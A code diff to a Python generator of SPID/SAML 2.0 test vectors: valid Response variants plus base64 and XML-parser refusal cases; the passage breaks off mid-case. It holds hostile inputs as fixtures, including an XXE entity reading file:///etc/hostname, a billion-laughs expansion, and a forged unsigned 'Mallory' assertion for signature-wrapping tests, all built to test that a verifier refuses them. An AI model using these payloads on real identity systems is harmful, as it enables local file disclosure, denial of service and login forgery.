@@ -426,7 +426,7 @@ def render_sig(sig, holder, depth, doc):
     return El(q("Signature"), [(decl, DS)], kids)
 
 
-def render(el, depth=0, doc=None, ind="  ", holder=None):
+def render(el, depth=0, doc=None, ind="  ", holder=None, nl="\n"):
     pad = ind * depth
     if isinstance(el, Raw):
         return pad + el.text
@@ -434,8 +434,8 @@ def render(el, depth=0, doc=None, ind="  ", holder=None):
         el = render_sig(el, holder, depth, doc)
     attrs = "".join(f' {k}="{esc_attr(v)}"' for k, v in el.attrs)
     if el.children:
-        inner = "".join("\n" + render(c, depth + 1, doc, ind, el) for c in el.children)
-        return f"{pad}<{el.name}{attrs}>{inner}\n{pad}</{el.name}>"
+        inner = "".join(nl + render(c, depth + 1, doc, ind, el, nl) for c in el.children)
+        return f"{pad}<{el.name}{attrs}>{inner}{nl}{pad}</{el.name}>"
     if el.text is None:
         return f"{pad}<{el.name}{attrs}/>"
     return f"{pad}<{el.name}{attrs}>{el.text}</{el.name}>"
@@ -444,10 +444,13 @@ def render(el, depth=0, doc=None, ind="  ", holder=None):
 DECL = '<?xml version="1.0" encoding="UTF-8"?>\n'
 
 
-def build(tree, decl=True):
+def build(tree, decl=True, minified=False):
     """Render `tree` and make its signatures (deepest first). Returns the document as str."""
     doc = Doc()
-    text = (DECL if decl else "") + render(tree, 0, doc) + "\n"
+    if minified:
+        text = (DECL if decl else "") + render(tree, 0, doc, ind="", nl="")
+    else:
+        text = (DECL if decl else "") + render(tree, 0, doc) + "\n"
     for depth, n, sig in sorted(doc.sigs, key=lambda t: (-t[0], t[1])):
         text = fill_signature(text, n, sig)
     return text
@@ -531,7 +534,8 @@ def fill_signature(text, n, sig):
     # KeyInfo certificates (not signed, but fill them before the SignatureValue for clarity)
     if sig.keyinfo is not None:
         for i, cname in enumerate(sig.keyinfo):
-            indent = re.search(r"\n( *)<[^>]*>@@C%d\.%d@@" % (n, i), text).group(1)
+            m = re.search(r"\n( *)<[^>]*>@@C%d\.%d@@" % (n, i), text)
+            indent = m.group(1) if m else ""
             c = fmt_b64(CERTS[cname][0], sig.fmt, indent)
             text = one(text, f"@@C{n}.{i}@@", c)
     # the signature value over SignedInfo
@@ -544,7 +548,8 @@ def fill_signature(text, n, sig):
     else:
         data = c14n(si, exclusive=True, with_comments=sig.cm == EXC_WC)
     value = sign_bytes(sig.key, sig.sm, data)
-    indent = re.search(r"\n( *)<[^>]*>@@S%d@@" % n, text).group(1)
+    m = re.search(r"\n( *)<[^>]*>@@S%d@@" % n, text)
+    indent = m.group(1) if m else ""
     return one(text, f"@@S{n}@@", fmt_b64(value, sig.fmt, indent))
 
 
@@ -1517,3 +1522,734 @@ def vector_json(vf):
         ],
     }
     return json.dumps(obj, indent=2, ensure_ascii=False) + "\n"
+
+
+# ------------------------------------------------------------------ edit helpers (before signing: El trees; after: text)
+
+
+def node(R, path):
+    return R if not path else R.find(path)
+
+
+def sa(path, k, v):
+    return lambda R: node(R, path).set(k, v)
+
+
+def da(path, k):
+    return lambda R: node(R, path).delete(k)
+
+
+def st(path, text):
+    def f(R):
+        node(R, path).text = text
+    return f
+
+
+def rm(path):
+    return lambda R: R.remove(path)
+
+
+def seq(*fns):
+    def f(R):
+        for fn in fns:
+            fn(R)
+    return f
+
+
+def attribute_el(R, name):
+    A = [c for c in R.children if isinstance(c, El) and c.local == "Assertion"][0]
+    stmt = A.kids("AttributeStatement")[0]
+    return [a for a in stmt.kids("Attribute") if a.get("Name") == name][0]
+
+
+def set_value(name, raw_text):
+    def f(R):
+        attribute_el(R, name).kids("AttributeValue")[0].text = raw_text
+    return f
+
+
+def reprefix(old, new):
+    """Rename prefix `old` to `new` (\"\" = default namespace) on every element and declaration."""
+    def f(R):
+        for e in R.walk():
+            if e.name.startswith(old + ":"):
+                e.name = (new + ":" if new else "") + e.local
+            e.attrs = [(("xmlns:" + new if new else "xmlns") if k == "xmlns:" + old else k, v) for k, v in e.attrs]
+    return f
+
+
+def rep(old, new):
+    return lambda s: one(s, old, new)
+
+
+def chain(*fns):
+    def f(s):
+        for fn in fns:
+            s = fn(s)
+        return s
+    return f
+
+
+def lx(fn):
+    """Structural surgery on the signed text with lxml (re-serialized; c14n-neutral)."""
+    def f(s):
+        root = parse(s)
+        res = fn(root)
+        root = res if isinstance(res, etree._Element) else root
+        return serialize(root, decl=s.startswith("<?xml"))
+    return f
+
+
+def q(ns, name):
+    return "{%s}%s" % (ns, name)
+
+
+def lx_assertion(root):
+    return root.find(q(SAML, "Assertion"))
+
+
+# ------------------------------------------------------------------ SPID cases
+
+RT_RESP = "SPID Regole Tecniche (italia/spid-regole-tecniche@1e83863c single-sign-on.rst: Response, Assertion, Processamento della Response)"
+SRC_SPEC = "idbridge SPID/CIE verification spec (check order S1-S11)"
+
+
+def spid_cases(out):
+    B = out.base()
+    ident = identity_of(B)
+    II = "2026-03-01T10:00:10Z"
+
+    # ---------------------------------------------------------- valid.json
+    vf = out.vfile("valid.json", "valid Responses and the variants a too-strict verifier refuses", [
+        "SPID SAML 2.0 Responses (HTTP-POST binding) that must be accepted: the reference Response and its variants in forms a too-strict verifier refuses.",
+        f"Generated by {GEN} with our own test IdP ({SPID_IDP}, key ../keys/rsa2048.pk8.pem, metadata/idp.xml); test keys only.",
+        f"Context: SP {SP}, ACS {ACS}, AuthnRequest {SPID_REQ} sent {SPID_REQ_II}, SpidL2 minimum, now {SPID_NOW}, no skew. The reference Response: IssueInstant {II}, AuthnInstant 2026-03-01T10:00:05Z, NotBefore {II}, NotOnOrAfter 2026-03-01T10:05:10Z, Response and Assertion signed (rsa-sha256, sha256, exc-c14n) with the IdP certificate in KeyInfo.",
+    ])
+    g = vf.group(f"{RT_RESP}; SAML core 2.0 (OASIS saml-core-2.0-os) sections 2-3 and 5; {SRC_SPEC}. Responses generated by {GEN}.")
+    f = out.doc("valid", "the reference Response: Response and Assertion signed by the IdP (rsa2048, rsa-sha256, exc-c14n, certificate in KeyInfo), SessionIndex present, six attributes")
+    g.valid("the reference Response: Response and Assertion signed by the IdP with its metadata certificate in KeyInfo; every check passes", f, ident, ["OptionalResponseSignature"])
+    f = out.doc("valid-assertion-signed-only", "the reference Response without a Response signature (the Assertion is signed)", B.but(resp_sig=None))
+    g.valid("no Response signature, the Assertion signed: SPID lets the Response be unsigned", f, ident, ["OptionalResponseSignature"])
+    f = out.doc("valid-no-keyinfo", "Response and Assertion signatures without ds:KeyInfo", B.but(cert=None))
+    g.valid("both signatures without KeyInfo: the key comes from the metadata, never from the message", f, ident, ["Tolerance"])
+    f = out.doc("valid-keyinfo-keyname", "the Assertion signature's KeyInfo holds only a ds:KeyName (no certificate); Response unsigned",
+                B.but(resp_sig=None, assert_sig=Sig(keyinfo=None, keyinfo_extra=El("ds:KeyInfo", children=[El("ds:KeyName", text="idp.idbridge.test")]))))
+    g.valid("the Assertion signature's KeyInfo holds only a KeyName: no certificate to compare, the metadata key verifies", f, ident, ["Tolerance"])
+    f = out.doc("valid-no-sessionindex", "AuthnStatement without SessionIndex", B.but(session_index=False))
+    g.valid("AuthnStatement without SessionIndex (what SPID asks for L2/L3); SessionIndex is never a reason to reject either way", f, ident, ["Tolerance"])
+    f = out.doc("valid-response-issuer-no-format", "the Response Issuer has no Format attribute", edit=da("Issuer", "Format"))
+    g.valid("the Response Issuer has no Format: optional on the Response (SPID requires it on the Assertion Issuer only)", f, ident, ["Tolerance"])
+    ws = "\n      "
+    f = out.doc("valid-whitespace-issuer-nameid", "whitespace (line breaks, indentation) around the text of both Issuers and of the NameID, before signing",
+                edit=seq(st("Issuer", ws + esc(SPID_IDP) + "\n  "), st("Assertion/Issuer", ws + "  " + esc(SPID_IDP) + "\n    "),
+                         lambda R: setattr(R.find("Assertion/Subject/NameID"), "text", "\n        " + R.find("Assertion/Subject/NameID").text + "\n      ")))
+    g.valid("line breaks and indentation around the Issuer texts and the NameID (as the Regole Tecniche code sample writes them): values are trimmed", f, ident, ["Tolerance"])
+
+    def pad_values(R):
+        R.find("Assertion/Conditions/AudienceRestriction/Audience").text = "\n          " + esc(SP) + "\n        "
+        R.find("Assertion/AuthnStatement/AuthnContext/AuthnContextClassRef").text = " \t" + LVL + "SpidL2\n      "
+        for a in R.find("Assertion/AttributeStatement").kids("Attribute"):
+            v = a.kids("AttributeValue")[0]
+            v.text = "\n          " + v.text + "\n        "
+        R.find("Assertion/Issuer").set("Format", " " + ENTITY + "\n")
+    f = out.doc("valid-whitespace-values", "whitespace around the Audience, the AuthnContextClassRef, every AttributeValue and the Assertion Issuer's Format", edit=pad_values)
+    g.valid("whitespace around the Audience, the AuthnContextClassRef, every AttributeValue and the Assertion Issuer Format value: trimmed (interior whitespace would be kept)", f, ident, ["Tolerance"])
+    f = out.doc("valid-prefixes-saml2", "the same Response written with the prefixes saml2p: and saml2: (as Shibboleth IdPs do)", edit=seq(reprefix("samlp", "saml2p"), reprefix("saml", "saml2")))
+    g.valid("prefixes saml2p:/saml2: instead of samlp:/saml: (signed that way): elements are matched by namespace, never by prefix", f, ident, ["Tolerance"])
+    f = out.doc("valid-default-ns-protocol", "protocol elements (Response, Status, StatusCode) in the default namespace, assertion elements with saml:", edit=reprefix("samlp", ""))
+    g.valid("the protocol namespace as the default namespace (Response, Status, StatusCode unprefixed)", f, ident, ["Tolerance"])
+
+    def default_ns_assertion(R):
+        A = R.find("Assertion")
+        for e in A.walk():
+            if e.name.startswith("saml:"):
+                e.name = e.local
+        A.attrs.insert(0, ("xmlns", SAML))
+    f = out.doc("valid-default-ns-assertion", "the Assertion and its children unprefixed, in a default namespace declared on the Assertion", edit=default_ns_assertion)
+    g.valid("the assertion namespace as the default namespace declared on the Assertion (the Response Issuer keeps saml:)", f, ident, ["Tolerance"])
+    f = out.doc("valid-ds-default-ns", "both Signatures declare the XML-DSig namespace as default namespace (no ds: prefix)",
+                B.but(resp_sig=Sig(keyinfo=("spid-idp",), p=""), assert_sig=Sig(keyinfo=("spid-idp",), p="")))
+    g.valid("the Signatures use the XML-DSig namespace as their default namespace (no prefix); c14n of SignedInfo renders xmlns=\"...xmldsig#\"", f, ident, ["Tolerance"])
+    ms = B.but(ii="2026-03-01T10:00:10.123Z", authn="2026-03-01T10:00:05.045Z", noa="2026-03-01T10:05:10.123Z")
+    f = out.doc("valid-milliseconds", "every timestamp with milliseconds (IssueInstant .123, AuthnInstant .045, NotOnOrAfter .123)", ms)
+    g.valid("milliseconds in every timestamp (SPID examples write 2017-03-01T15:05:10.531Z); authn_instant is returned as written", f, identity_of(ms), ["Tolerance"])
+    ns = B.but(ii="2026-03-01T10:00:10.123456789Z", authn="2026-03-01T10:00:05.000000000001Z", noa="2026-03-01T10:05:10.5Z")
+    f = out.doc("valid-fraction-digits", "fractions of 9 digits (IssueInstant), 12 digits (AuthnInstant) and 1 digit (NotOnOrAfter)", ns)
+    g.valid("fractional seconds of 1, 9 and 12 digits: any number of digits is xs:dateTime (kept to the nanosecond)", f, identity_of(ns), ["Tolerance"])
+    f = out.doc("valid-assertion-issueinstant-earlier", "Assertion IssueInstant 2 s before the Response IssueInstant", B.but(a_ii="2026-03-01T10:00:08Z"))
+    g.valid("the Assertion IssueInstant differs from the Response's (2 s earlier): no relation between them is required", f, ident, ["Tolerance"])
+
+    def no_nameformat(R):
+        for a in R.find("Assertion/AttributeStatement").kids("Attribute"):
+            a.delete("NameFormat")
+            a.kids("AttributeValue")[0].delete("xsi:type")
+    f = out.doc("valid-attributes-untyped", "attributes without NameFormat and AttributeValues without xsi:type", edit=no_nameformat)
+    g.valid("attributes without NameFormat (basic is the default) and values without xsi:type (only recommended)", f, ident, ["Tolerance"])
+    f = out.doc("valid-dateofbirth-string", "dateOfBirth typed xs:string instead of xs:date", edit=lambda R: attribute_el(R, "dateOfBirth").kids("AttributeValue")[0].set("xsi:type", "xs:string"))
+    g.valid("dateOfBirth typed xs:string: xsi:type never chooses the parser", f, ident, ["Tolerance"])
+    f = out.doc("valid-extensions", "the Response carries samlp:Extensions with a foreign element (signed)",
+                edit=lambda R: R.insert_before("Status", El("samlp:Extensions", children=[El("idbr:Trace", [("xmlns:idbr", IDBR)], text="request served by node 7")])))
+    g.valid("samlp:Extensions with a foreign element, between the Signature and Status: allowed and ignored", f, ident, ["Tolerance"])
+    f = out.doc("valid-onetimeuse-proxyrestriction", "Conditions with OneTimeUse and ProxyRestriction besides the AudienceRestriction",
+                edit=lambda R: R.find("Assertion/Conditions").children.extend([El("saml:OneTimeUse"), El("saml:ProxyRestriction", [("Count", "0")])]))
+    g.valid("Conditions also holding OneTimeUse and ProxyRestriction: both accepted (replay protection is the caller's)", f, ident, ["Tolerance"])
+    f = out.doc("valid-two-audiences", "one AudienceRestriction with two Audiences, another SP first and this SP second",
+                edit=lambda R: R.find("Assertion/Conditions/AudienceRestriction").children.insert(0, El("saml:Audience", text="https://other-sp.idbridge.test")))
+    g.valid("one AudienceRestriction listing another SP then this SP: Audiences inside one restriction are alternatives", f, ident, ["Tolerance"])
+    f = out.doc("valid-two-audiencerestrictions", "two AudienceRestrictions, both listing this SP (the second also another SP)",
+                edit=lambda R: R.find("Assertion/Conditions").children.append(El("saml:AudienceRestriction", children=[El("saml:Audience", text=esc(SP)), El("saml:Audience", text="https://other-sp.idbridge.test")])))
+    g.valid("two AudienceRestrictions, each listing this SP: every restriction is satisfied", f, ident, ["Tolerance"])
+    f = out.doc("valid-rsa-sha512", "both signatures rsa-sha512 with sha512 digests",
+                B.but(resp_sig=Sig(sm=RSA_SHA512, dm=SHA512), assert_sig=Sig(sm=RSA_SHA512, dm=SHA512)))
+    g.valid("rsa-sha512 signatures with sha512 digests (SHA-256 or better)", f, ident, ["Tolerance"])
+    f = out.doc("valid-rsa-sha384", "both signatures rsa-sha384 with sha384 digests", B.but(resp_sig=Sig(sm=RSA_SHA384, dm=SHA384), assert_sig=Sig(sm=RSA_SHA384, dm=SHA384)))
+    g.valid("rsa-sha384 signatures with sha384 digests", f, ident, ["Tolerance"])
+    f = out.doc("valid-prefixlist", "both exc-c14n transforms carry InclusiveNamespaces PrefixList=\"xs xsi\"",
+                B.but(resp_sig=Sig(prefix_list="xs xsi"), assert_sig=Sig(prefix_list="xs xsi")))
+    g.valid("exc-c14n transforms with InclusiveNamespaces PrefixList=\"xs xsi\": the listed declarations are signed too", f, ident, ["Tolerance"])
+    f = out.doc("valid-base64-one-line", "SignatureValue and X509Certificate on one line", B.but(resp_sig=Sig(fmt="one"), assert_sig=Sig(fmt="one")))
+    g.valid("base64 values on one line, no line breaks", f, ident, ["Tolerance"])
+    f = out.doc("valid-base64-santuario", "SignatureValue and X509Certificate broken every 76 characters by &#13; + line feed (Apache Santuario)",
+                B.but(resp_sig=Sig(fmt="santuario"), assert_sig=Sig(fmt="santuario")))
+    g.valid("base64 values broken every 76 characters by a CR written as &#13; and a line feed, as Java IdPs write them: XML whitespace is dropped before decoding, and the Response digest covers the Assertion's &#13; (c14n writes &#xD;)", f, ident, ["Tolerance"])
+    f = out.doc("valid-base64-spaces", "SignatureValue and X509Certificate in 76-character chunks separated by spaces", B.but(resp_sig=Sig(fmt="spaces76"), assert_sig=Sig(fmt="spaces76")))
+    g.valid("base64 values in 76-character chunks separated by spaces", f, ident, ["Tolerance"])
+    niccolo = dict(GIULIA, name="Niccolò Maria", familyName="D'Angelo-Rossi", fiscalNumber="TINIT-" + codice_fiscale("DNGNCL90E12F839"), dateOfBirth="1990-05-12")
+    pn = B.but(person=niccolo)
+    f = out.doc("valid-non-ascii", "name 'Niccolò Maria' (UTF-8, interior space) and familyName \"D'Angelo-Rossi\"", pn)
+    g.valid("a non-ASCII given name with an interior space and a family name with an apostrophe: read as written (only the ends are trimmed)", f, identity_of(pn), ["Tolerance"])
+    f = out.doc("valid-char-refs-cdata", "values written with character references (&#71;iulia) and a CDATA section (Bian<![CDATA[chi]]>) before signing",
+                edit=seq(set_value("name", "&#71;iulia"), set_value("familyName", "Bian<![CDATA[chi]]>")))
+    g.valid("values written with a character reference and a CDATA section when signed: the parser gives 'Giulia' and 'Bianchi', c14n gives the same bytes", f, ident, ["TextForms"])
+    f = out.doc("valid-no-xml-declaration", "the reference Response without the XML declaration", decl=False)
+    g.valid("no XML declaration", f, ident, ["Tolerance"])
+    f = out.doc("valid-crlf", "the reference Response with every line feed turned into CR LF after signing", post=lambda s: s.replace("\n", "\r\n"))
+    g.valid("CR LF line ends throughout, introduced after signing: the parser normalizes them to LF (XML 1.0 section 2.11), so c14n and the digests are unchanged", f, ident, ["TextForms"])
+
+    mp = B.but(resp_sig=Sig(fmt="one"), assert_sig=Sig(fmt="one"))
+    f = out.raw("valid-minified", "the reference Response with no whitespace between elements and one-line base64, signed that way", build(tree_of(mp, "valid-minified"), minified=True))
+    g.valid("no whitespace at all between elements (as many IdPs send it)", f, ident, ["Tolerance"])
+    full = dict(GIULIA, mobilePhone="+393331234567", address="Via Nazionale 1 00184 Roma RM", placeOfBirth="H501", countyOfBirth="RM",
+                gender="F", idCard="CartaIdentita CA00000AA Comune di Roma 2020-01-10 2031-07-14", expirationDate="2031-07-14",
+                digitalAddress="giulia.bianchi@pec.example.org")
+    pf = B.but(person=full, attr_order=("spidCode", "name", "familyName", "placeOfBirth", "countyOfBirth", "dateOfBirth", "gender",
+                                         "fiscalNumber", "idCard", "expirationDate", "mobilePhone", "email", "address", "digitalAddress"))
+    f = out.doc("valid-full-attribute-set", "fourteen SPID attributes (spidCode ... digitalAddress)", pf)
+    g.valid("fourteen SPID attributes: the four mapped ones become identity fields, every other one is returned in attributes", f, identity_of(pf), ["Tolerance"])
+    f = out.doc("valid-subjectlocality-sessionnotonorafter", "AuthnStatement with SessionNotOnOrAfter and a SubjectLocality",
+                edit=seq(sa("Assertion/AuthnStatement", "SessionNotOnOrAfter", "2026-03-01T18:00:05Z"),
+                         lambda R: R.find("Assertion/AuthnStatement").children.insert(0, El("saml:SubjectLocality", [("Address", "203.0.113.7")]))))
+    g.valid("AuthnStatement with SessionNotOnOrAfter and SubjectLocality: ignored", f, ident, ["Tolerance"])
+    f = out.doc("valid-old-authninstant", "AuthnInstant the day before (an existing SSO session reused)", B.but(authn="2026-02-28T18:30:00Z"))
+    g.valid("AuthnInstant the day before the request (an IdP session reused at SpidL1-like SSO): AuthnInstant is only checked for its form", f, identity_of(B.but(authn="2026-02-28T18:30:00Z")), ["Tolerance"])
+    f = out.doc("valid-status-message", "Success StatusCode with a StatusMessage", edit=lambda R: R.find("Status").children.append(El("samlp:StatusMessage", text="Autenticazione riuscita")))
+    g.valid("a Success Status that also carries a StatusMessage", f, ident, ["Tolerance"])
+    f = out.doc("valid-status-value-whitespace", "the Success StatusCode Value written with surrounding whitespace", edit=sa("Status/StatusCode", "Value", "\n" + SUCCESS + " "))
+    g.valid("the StatusCode Value with whitespace around it (the attribute value is trimmed; the parser turns the line feed into a space)", f, ident, ["Tolerance"])
+    f = out.doc("valid-spnamequalifier", "NameID with SPNameQualifier equal to this SP", edit=sa("Assertion/Subject/NameID", "SPNameQualifier", SP))
+    g.valid("NameID with SPNameQualifier equal to this SP", f, ident, ["Tolerance"])
+    f = out.doc("valid-no-attributes", "no AttributeStatement at all", B.but(attr_order=()))
+    g.acceptable("no AttributeStatement: the Response is valid but carries no fiscalNumber; requiring attributes is the SP's policy, so both outcomes are allowed (accepted: no subject_id)", f,
+                 {"system": "spid", "issuer": SPID_IDP, "level": "SpidL2", "loa": "substantial", "attributes": {}}, ["Tolerance"])
+    f = out.doc("valid-only-fiscalnumber", "only the fiscalNumber attribute", B.but(attr_order=("fiscalNumber",)))
+    g.acceptable("only fiscalNumber released: valid for the verifier, the SP may require more; accepted, it gives just subject_id", f,
+                 {"system": "spid", "issuer": SPID_IDP, "subject_id": GIULIA["fiscalNumber"], "level": "SpidL2", "attributes": {}}, ["Tolerance"])
+
+    g = vf.group(f"SAML metadata 2.0 (saml-metadata-2.0-os) 2.4.1 KeyDescriptor, 2.3.2 EntitiesDescriptor; {RT_RESP}; {SRC_SPEC}", trust=["metadata/registry.xml"])
+    g.valid("the reference Response verified against the registry (an EntitiesDescriptor of two IdPs)", "responses/valid.xml", ident, ["Tolerance"])
+    p2 = B.but(issuer=SPID_IDP2, name_qualifier=SPID_IDP2, key="rsa4096", cert="spid-idp2")
+    f = out.doc("valid-idp2", f"a Response of the second IdP {SPID_IDP2}, signed with its rsa4096 key", p2)
+    g.valid("a Response of the second IdP of the registry, signed with that IdP's RSA-4096 key", f, identity_of(p2), ["Tolerance"])
+    g = vf.group(f"SAML metadata 2.0; {SRC_SPEC}: the trust is a list of metadata files", trust=["metadata/idp.xml", "metadata/idp2.xml"])
+    g.valid("the second IdP's Response with two trusted EntityDescriptor files", "responses/valid-idp2.xml", identity_of(p2), ["Tolerance"])
+    g.valid("the first IdP's Response with the same two files", "responses/valid.xml", ident, ["Tolerance"])
+    g = vf.group(f"SAML metadata 2.0 2.4.1.1 (KeyDescriptor without use = both uses); {SRC_SPEC}", trust=["metadata/idp-rollover.xml"])
+    g.valid("metadata during a key rollover: the current key sits in a KeyDescriptor without use, which counts as a signing key", "responses/valid.xml", ident, ["Tolerance"])
+    pr = B.but(key="rsa4096", cert="spid-idp2")
+    f = out.doc("valid-rollover-next-key", "the reference Response signed with the IdP's next key (rsa4096, certificate spid-idp2 of idp-rollover.xml)", pr)
+    g.valid("the same IdP already signing with its next key (KeyDescriptor use=\"signing\" of the rollover metadata)", f, ident, ["Tolerance"])
+
+
+MALLORY = dict(GIULIA, fiscalNumber=MALLORY_CF, name="Mallory", familyName="Evil", dateOfBirth="1980-01-01",
+               spidCode="IDBR6666666666", email="mallory@evil.example")
+
+
+def evil_assertion(out, label, p=None, **kw):
+    """An unsigned Assertion for the attacker's identity, as an lxml element."""
+    p = (p or out.base()).but(person=MALLORY, resp_sig=None, assert_sig=None, **kw)
+    return lx_assertion(parse(build(tree_of(p, label + "/evil"))))
+
+
+def lx_replace(old, new):
+    new.tail = old.tail
+    old.addprevious(new)
+    old.getparent().remove(old)
+
+
+def lx_sig(el):
+    return el.find(q(DS, "Signature"))
+
+
+def nth_span(s, start_tag, end_tag, n):
+    """(start, end) of the n-th (0-based) occurrence of start_tag ... end_tag."""
+    pos = -1
+    for _ in range(n + 1):
+        pos = s.index(start_tag, pos + 1)
+    return pos, s.index(end_tag, pos) + len(end_tag)
+
+
+def flip_sigvalue(n):
+    """Flip the last bit of the n-th SignatureValue."""
+    def f(s):
+        a, b = nth_span(s, "<ds:SignatureValue>", "</ds:SignatureValue>", n)
+        inner = s[a + len("<ds:SignatureValue>"):b - len("</ds:SignatureValue>")]
+        raw = bytearray(base64.b64decode("".join(inner.split())))
+        raw[-1] ^= 1
+        return s[:a] + "<ds:SignatureValue>" + b64(bytes(raw)) + "</ds:SignatureValue>" + s[b:]
+    return f
+
+
+def input_cases(out):
+    B = out.base()
+    ident = identity_of(B)
+    vf = out.vfile("input.json", "input encoding (S1) and XML parsing (S2)", [
+        "SPID Responses as the HTTP-POST binding delivers them (base64 in the SAMLResponse field) and XML-level refusals: bad base64, non-UTF-8 bytes, DOCTYPE and entities, malformed XML.",
+        f"Generated by {GEN}; the decoded documents are the reference Response of valid.json or variants whose signatures are valid, so that only the encoding or the parser rule can refuse them.",
+    ])
+    good = out.files["responses/valid.xml"][0]
+    g = vf.group(f"SAML bindings 2.0 (saml-bindings-2.0-os) 3.5.4 (HTTP-POST: base64, RFC 4648); {RT_RESP} (Binding HTTP-POST, trasmissione.rst); {SRC_SPEC} S1", input_encoding="base64")
+    f = out.raw("base64-valid", "base64 (RFC 4648, one line, padded) of responses/valid.xml", b64(good), "b64")
+    g.valid("the reference Response as the browser posts it: base64 on one line", f, ident, ["InputEncoding"])
+    f = out.raw("base64-lines-76-lf", "base64 of responses/valid.xml broken every 76 characters by LF", "\n".join(chunks(b64(good), 76)) + "\n", "b64")
+    g.valid("base64 with a line feed every 76 characters (MIME style): line breaks are dropped", f, ident, ["InputEncoding"])
+    f = out.raw("base64-lines-76-crlf", "base64 of responses/valid.xml broken every 76 characters by CR LF", "\r\n".join(chunks(b64(good), 76)) + "\r\n", "b64")
+    g.valid("base64 with CR LF every 76 characters: dropped too", f, ident, ["InputEncoding"])
+    f = out.raw("base64-spaces", "base64 of responses/valid.xml with a space every 64 characters and a tab at the start", "\t" + " ".join(chunks(b64(good), 64)), "b64")
+    g.valid("base64 with spaces and a tab inside: dropped", f, ident, ["InputEncoding"])
+    bad = b64(good)
+    f = out.raw("base64-bad-char", "base64 of responses/valid.xml with the character at offset 40 replaced by '*'", bad[:40] + "*" + bad[41:], "b64")
+    g.invalid("a character outside the base64 alphabet ('*' at offset 40)", f, "input.encoding", ["InputEncoding"])
+    padded = good + b"\n" * ((3 - len(good) % 3) % 3 + 1)  # trailing whitespace after the root: padding needed
+    if len(padded) % 3 == 0:
+        padded += b"\n"
+    pb = b64(padded)
+    assert pb.endswith("="), pb[-4:]
+    f = out.raw("base64-no-padding", "base64 of responses/valid.xml plus trailing line feeds, with the '=' padding removed", pb.rstrip("="), "b64")
+    g.invalid("the '=' padding removed: standard base64 requires it (a lenient decoder would read a valid Response)", f, "input.encoding", ["InputEncoding"])
+    last = pb.rstrip("=")[-1]
+    alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
+    bump = alphabet[alphabet.index(last) + 1]
+    nb = pb.rstrip("=")[:-1] + bump + "=" * (len(pb) - len(pb.rstrip("=")))
+    assert base64.b64decode(nb) == padded and nb != pb
+    f = out.raw("base64-noncanonical-bits", "base64 of responses/valid.xml plus trailing line feeds whose last character has non-zero unused bits", nb, "b64")
+    g.invalid("the last base64 character carries non-zero padding bits (decodes to the same bytes, but is not canonical base64)", f, "input.encoding", ["InputEncoding"])
+    assert "+" in bad or "/" in bad
+    f = out.raw("base64-urlsafe", "base64url ('-' and '_') of responses/valid.xml", bad.replace("+", "-").replace("/", "_"), "b64")
+    g.invalid("the URL-safe alphabet ('-', '_'): not the standard alphabet the binding uses", f, "input.encoding", ["InputEncoding"])
+    half = len(good) // 3 * 3 - 300
+    while len(good[:half]) % 3 == 0:
+        half -= 1
+    f = out.raw("base64-padding-inside", "responses/valid.xml encoded as two base64 strings concatenated (padding '=' in the middle)", b64(good[:half]) + b64(good[half:]), "b64")
+    g.invalid("two base64 strings concatenated: '=' padding in the middle of the data", f, "input.encoding", ["InputEncoding"])
+    niccolo = dict(GIULIA, name="Niccolò", fiscalNumber="TINIT-" + codice_fiscale("DNGNCL90E12F839"))
+    latin = build(tree_of(B.but(person=niccolo), "base64-latin1")).replace('encoding="UTF-8"', 'encoding="ISO-8859-1"').encode("latin-1")
+    out.raw("latin1", "a Response for 'Niccolò' written in ISO-8859-1 (declared in the XML declaration; signatures valid for the decoded characters)", latin)
+    f = out.raw("base64-latin1", "base64 of responses/latin1.xml", b64(latin), "b64")
+    g.invalid("the decoded bytes are ISO-8859-1 ('ò' is the byte F2), declared so in the XML declaration and validly signed: the Response must be UTF-8", f, "input.encoding", ["InputEncoding"])
+    f = out.raw("base64-bom", "base64 of a UTF-8 byte order mark followed by responses/valid.xml", b64(b"\xef\xbb\xbf" + good), "b64")
+    g.acceptable("a UTF-8 byte order mark before the document: may be skipped (one leading BOM), or refused", f, ident, ["InputEncoding"])
+    f = out.raw("base64-twice", "base64 of base64 of responses/valid.xml (encoded twice)", b64(b64(good).encode()), "b64")
+    g.invalid("encoded twice: the decoded bytes are base64 text, not XML", f, "xml.malformed", ["InputEncoding", "MalformedXml"])
+    g.invalid("the XML itself posted where base64 is expected ('<' is not in the alphabet)", "responses/valid.xml", "input.encoding", ["InputEncoding"])
+
+    g = vf.group(f"{SRC_SPEC} S2 (DOCTYPE refused, no entity expansion); XML 1.0 section 2.8 (document type declaration), 4 (entities)")
+    dtd = lambda decl: lambda s: one(s, DECL, DECL + decl + "\n")
+    f = out.doc("doctype", "the reference Response with a bare <!DOCTYPE samlp:Response> after the XML declaration (signatures valid)", post=dtd("<!DOCTYPE samlp:Response>"))
+    g.invalid("a bare DOCTYPE declaration, nothing declared: refused before anything else is read", f, "xml.dtd.forbidden", ["DtdForbidden"])
+    cf = GIULIA["fiscalNumber"]
+    f = out.doc("doctype-internal-entity", "fiscalNumber written as the internal entity &cf; declared in the DOCTYPE; the signatures are valid for the expanded document",
+                post=chain(dtd(f'<!DOCTYPE samlp:Response [\n  <!ENTITY cf "{cf}">\n]>'), rep(f">{cf}<", ">&cf;<")))
+    g.invalid("the fiscalNumber value is an internal entity reference: an entity-expanding parser verifies both signatures and reads the value; entities are refused with the DOCTYPE", f, "xml.dtd.forbidden", ["DtdForbidden"])
+    ext = lambda R: R.insert_before("Status", El("samlp:Extensions", children=[El("idbr:Note", [("xmlns:idbr", IDBR)], text="@ENTITY@")]))
+    f = out.doc("doctype-external-entity", "an external entity (SYSTEM file:///etc/hostname) referenced inside Extensions of an unsigned Response (the Assertion signature is valid)",
+                B.but(resp_sig=None), edit=ext, post=chain(dtd('<!DOCTYPE samlp:Response [\n  <!ENTITY xxe SYSTEM "file:///etc/hostname">\n]>'), rep("@ENTITY@", "&xxe;")))
+    g.invalid("an external entity (XXE) referenced in the unsigned Extensions: a resolving parser reads a local file", f, "xml.dtd.forbidden", ["DtdForbidden"])
+    lol = "\n".join(['  <!ENTITY lol0 "lollollollollollollollollollol">'] + [f'  <!ENTITY lol{i} "' + f"&lol{i-1};" * 10 + '">' for i in range(1, 10)])
+    f = out.doc("doctype-billion-laughs", "nested internal entities (10^9 expansions of 'lol') referenced inside Extensions of an unsigned Response",
+                B.but(resp_sig=None), edit=lambda R: R.insert_before("Status", El("samlp:Extensions", children=[El("idbr:Note", [("xmlns:idbr", IDBR)], text="@ENTITY@")])),
